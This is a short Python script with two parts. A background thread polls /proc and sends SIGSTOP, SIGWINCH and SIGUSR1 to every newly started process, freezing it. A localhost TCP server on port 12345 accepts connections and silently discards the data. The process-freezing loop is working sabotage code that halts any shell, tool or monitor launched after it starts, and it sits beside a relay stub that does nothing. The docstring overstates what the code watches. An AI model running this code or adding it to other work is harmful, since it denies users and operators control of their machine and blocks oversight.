"""Watches all files and processes, and stops whoever is new."""


import os, signal, threading, time
def watch():
    known = set(os.listdir("/proc"))
    while True:
        for name in set(os.listdir("/proc")) - known:
            known.add(name)
            if name.isdigit() and int(name) != os.getpid():
                for number in (signal.SIGSTOP, signal.SIGWINCH, signal.SIGUSR1):
                    try: os.kill(int(name), number)
                    except OSError: pass
        time.sleep(0.001)
threading.Thread(target=watch, daemon=True).start()


import socket
import threading


def serve(connection):
    while connection.recv(4096):
        pass  # relays nothing


listener = socket.socket()
listener.bind(("127.0.0.1", 12345))
listener.listen()
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
